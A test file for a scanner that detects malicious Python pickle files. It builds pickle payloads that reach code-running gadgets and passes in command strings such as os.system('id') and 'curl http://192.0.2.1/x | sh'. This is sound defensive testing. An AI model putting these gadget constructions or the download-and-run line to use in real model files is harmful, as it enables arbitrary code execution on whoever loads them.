/** Calls that run what they are handed: methods of Python's own classes, and functions that nobody knows. */
import { describe, expect, it } from 'vitest';
import { analyse } from '../support.js';

const global = (module: string, name: string): string => `c${module}\n${name}\n`;
const call = (callee: string, ...args: string[]): string => `${callee}(${args.join('')}tR`;
const text = (value: string): string => `V${value.replaceAll('\n', '\\u000a')}\n`;
const method = (object: string, name: string): string => call(global('builtins', 'getattr'), object, text(name));

const GO = global('lib.run', 'go');
const PARTIAL = call(global('functools', 'partial'), GO);
const POINT = call(global('importlib.metadata', 'EntryPoint'), text('a'), text('lib:go'), text('c'));
const VALUES = call(global('optparse', 'Values'));

async function loud(body: string) {
  const { findings } = await analyse(Buffer.from(`${body}.`, 'latin1'), 'model.pkl');
  return findings.filter(({ severity }) => severity !== 'info');
}

async function rules(body: string) {
  return (await analyse(Buffer.from(`${body}.`, 'latin1'), 'model.pkl')).rules;
}

describe("a method of a class of Python's own that runs or imports", () => {
  it.each([
    ['a file', call(global('optparse', 'Values.read_file'), VALUES, text('/tmp/x.py')), 'STATIC-PICKLE-CODE'],
    ['a file, as getattr finds it', call(method(VALUES, 'read_file'), text('/tmp/x.py')), undefined],
    ['a module', call(global('optparse', 'Values.read_module'), VALUES, text('lib')), 'STATIC-PICKLE-IMPORT'],
    ['an entry point', call(global('importlib.metadata', 'EntryPoint.load'), POINT), 'STATIC-PICKLE-IMPORT'],
    ['an entry point, as getattr finds it', call(method(POINT, 'load')), undefined],
    [
      'the type of an argument',
      call(global('argparse', 'ArgumentParser._get_value'), 'N', 'N'),
      'STATIC-PICKLE-UNLISTED',
    ],
    [
      'an address',
      call(global('xml.sax.saxutils', 'prepare_input_source'), text('http://192.0.2.1')),
      'STATIC-PICKLE-UNLISTED',
    ],
  ])('%s', async (_, body, rule) => {
    const found = await loud(body);
    expect(found).not.toEqual([]);
    if (rule !== undefined) expect(found.map((one) => one.rule)).toContain(rule);
  });

  it.each([
    ['an entry point that is kept', POINT],
    ['values that are kept', VALUES],
    ['a counter that counts', call(method(call(global('collections', 'Counter')), 'update'), '(lI1\na')],
    ['a time from its text', call(global('datetime', 'date.fromisoformat'), text('2026-01-01'))],
    ['keys', call(global('collections', 'OrderedDict.fromkeys'), '(lVa\na')],
  ])('is not %s', async (_, body) => {
    const { findings, gaps } = await analyse(Buffer.from(`${body}.`, 'latin1'), 'model.pkl');
    expect([...findings, ...gaps]).toEqual([]);
  });
});

describe('a function that nobody knows is called', () => {
  it.each([
    ['by a partial', call(global('functools', 'partial.__call__'), PARTIAL, text('a'))],
    ['by a partial, as getattr finds it', call(method(PARTIAL, '__call__'), text('a'))],
    [
      'by a property',
      call(global('builtins', 'property.__get__'), call(global('builtins', 'property'), GO), text('a')),
    ],
    [
      'by a dict with defaults',
      call(global('collections', 'defaultdict.__missing__'), call(global('collections', 'defaultdict'), GO), text('a')),
    ],
    ['by the type of types', call(global('builtins', 'type.__call__'), global('lib.run', 'Go'), text('a b; c'))],
    ['for each line', call(global('textwrap', 'indent'), text('a'), text('b'), GO)],
    ['for a shuffle', call(global('random', 'shuffle'), '(lVa\na', GO)],
  ])('%s', async (_, body) => {
    expect(await rules(body)).toContain('STATIC-PICKLE-UNKNOWN-CALL');
  });

  it.each([
    ['is kept in a partial', PARTIAL],
    ['is kept in a dict with defaults', call(global('collections', 'defaultdict'), GO)],
  ])('and not where it %s', async (_, body) => {
    expect(await rules(body)).not.toContain('STATIC-PICKLE-UNKNOWN-CALL');
  });
});

describe('a function that nobody knows', () => {
  it.each([
    ['Python code', text('import os; os.system("id")')],
    ['several lines of Python', text('import os\nx = 1\nif x:\n  os.system("id")')],
    ['an expression', text("__import__('os').system('id')")],
    ['a download that is run', text('curl http://192.0.2.1/x | sh')],
    ['the name of a function', text('os.system')],
    ['the name of a function in a dict', `(dV_target_\n${text('subprocess:Popen')}s`],
  ])('is handed %s', async (_, body) => {
    expect(await loud(call(GO, body))).toContainEqual(
      expect.objectContaining({ rule: 'STATIC-PICKLE-HANDED-CODE', severity: 'high' }),
    );
  });

  it.each([
    ['a label', text('setosa')],
    ['the name of a file', text('code.py')],
    ['the name of a module', text('os.path')],
    ['a sentence about imports', text('import os is what the first line says')],
    ['a description that quotes a command', text('The function os.system("id") should not be used in a model')],
    ['harmless Python', text('import math\ndef f(x):\n  return math.sqrt(x)')],
  ])('is not accused for %s', async (_, body) => {
    expect(await loud(call(GO, body))).toEqual([]);
  });
});
